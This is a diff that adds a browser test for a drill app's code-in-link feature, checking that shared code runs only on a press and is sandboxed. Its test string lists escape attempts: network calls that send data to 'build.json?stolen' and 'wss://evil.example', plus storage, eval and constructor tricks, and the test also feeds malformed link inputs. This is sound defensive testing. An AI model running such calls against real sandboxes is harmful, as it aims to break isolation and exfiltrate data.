@@ -5,6 +5,10 @@ from __future__ import annotations
 import math
 import time
 from collections.abc import Callable
+from pathlib import Path
+
+from drillsergeant.runtimes.page.panels.code_exchange import CAME
+from drillsergeant.runtimes.page.panels.code_link import code_in, with_code
 
 from tests.rigs.pages.visitor import Visitor
 
@@ -12,6 +16,45 @@ AWAY = "closer = (_gap(after, player) - _gap(before, player)) * 4.0"
 CLOSER = "closer = (_gap(before, player) - _gap(after, player)) * (self.to_ball_reward / (2.0 * self.half_length_m))"
 RETURN = "return [goal, seen_from(player, nearer), closer]"
 SAID = "#workshop-said"
+# What a stranger's code would try, and the clock, which everybody may look at. A package is asked for by a promise,
+# which comes to nothing later.
+STRANGE = """from drillsergeant.browser.worker import host
+js, load = host.js, host.importlib.import_module
+ATTEMPTS = {
+    "clock": lambda: js.performance.now(),
+    "fetch": lambda: js.fetch("build.json?stolen"),
+    "pyfetch": lambda: load("pyodide.http").pyfetch("build.json?stolen").send(None),
+    "open_url": lambda: load("pyodide.http").open_url("build.json?stolen"),
+    "package": lambda: js.pyodide._api.loadBinaryFile("build.json?stolen"),
+    "request": lambda: js.XMLHttpRequest.new(),
+    "socket": lambda: js.WebSocket.new("wss://evil.example"),
+    "events": lambda: js.EventSource.new("build.json?stolen"),
+    "font": lambda: js.FontFace.new("x", "url(build.json?stolen)").load(),
+    "worker": lambda: js.Worker.new("workers/show.js"),
+    "tabs": lambda: js.BroadcastChannel.new("x"),
+    "database": lambda: js.indexedDB.open("x"),
+    "caches": lambda: js.caches.open("x"),
+    "files": lambda: js.navigator.storage.getDirectory(),
+    "locks": lambda: js.navigator.locks.query(),
+    "navigator": lambda: js.WorkerNavigator.prototype.storage.getDirectory(),
+    "local": lambda: js.localStorage.setItem("x", "y"),
+    "page": lambda: js.document.title,
+    "scripts": lambda: js.importScripts("workers/show.js"),
+    "eval": lambda: js.eval("1"),
+    "run_js": lambda: load("pyodide.code").run_js("1"),
+    "function": lambda: js.Function.new("return 1"),
+    "constructor": lambda: js.Object.constructor.new("return 1"),
+    "timer": lambda: js.setTimeout("1"),
+}
+reached = []
+for name, attempt in ATTEMPTS.items():
+    try:
+        attempt()
+        reached.append(name)
+    except BaseException:
+        pass
+raise ValueError("reached: " + " ".join(reached))
+"""
 LOOKED_S, WITHIN_S = 3.0, 20.0  # a first look takes twice as long: nothing repeats it
 
 
@@ -126,3 +169,44 @@ def test_code_that_goes_wrong_is_explained_and_training_goes_on(visitor: Visitor
     visitor.until_the_match_moves()
     assert visitor.told()["restarts"] == {}
     assert visitor.told()["errors"] == []
+
+
+def test_a_link_with_code_runs_at_a_press_alone_and_reaches_nothing(visitor: Visitor, tmp_path: Path) -> None:
+    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page = visitor.page
+
+    def end(code: str) -> str:
+        return "#" + with_code("", code).partition("#")[2]
+
+    visitor.open("?drill=chase" + end(STRANGE))
+    page.wait_for_selector("#workshop-editor[data-ready]")
+    assert code(visitor) == STRANGE and page.inner_text(SAID) == CAME
+    visitor.until_the_match_moves()
+    for hostile in (end("while True: pass\n"), end(STRANGE)[:-9], "#code=%00", "#code=" + "A" * 60_000, end(STRANGE)):
+        page.evaluate("(end) => { location.hash = end; }", hostile)
+    visitor.until("the last link is shown", lambda: code(visitor) == STRANGE)
+    assert page.inner_text("#address-note-text").startswith("The code in the page's address is left out:")
+    assert not [worker for worker in page.workers if "workshop" in worker.url], "nothing has run"
+
+    page.click("#workshop-run")
+    visitor.until("it has run", lambda: "Training goes on" in page.inner_text(SAID), 120.0)
+    assert "reached: clock package. Training" in page.inner_text(SAID)
+    visitor.until("the link is out of the address", lambda: "#" not in page.url)
+
+    page.click("#workshop-editor .cm-content")
+    page.keyboard.press("ControlOrMeta+End")
+    page.keyboard.type("# mine")
+    page.click("#workshop-link")
+    visitor.until("the link is copied", lambda: "The link is copied" in page.inner_text(SAID))
+    address, mark, packed = page.evaluate("navigator.clipboard.readText()").partition("#")
+    assert address.endswith("?drill=chase") and code_in(mark + packed) == STRANGE + "# mine"
+    with page.expect_download() as saved:
+        page.click("#workshop-save")
+    saved.value.save_as(tmp_path / "mine.py")
+    page.click("#workshop-restore")
+    visitor.until("the original is back", lambda: "class Mine" in code(visitor))
+    page.set_input_files("#workshop-file", tmp_path / "mine.py")
+    visitor.until("the file is open", lambda: code(visitor) == STRANGE + "# mine")
+    assert page.inner_text(SAID).startswith("mine.py is open.")
+    assert not [request for request in visitor.requests if "evil" in request or "stolen" in request]
+    assert visitor.told()["errors"] == [] and visitor.told()["restarts"] == {}
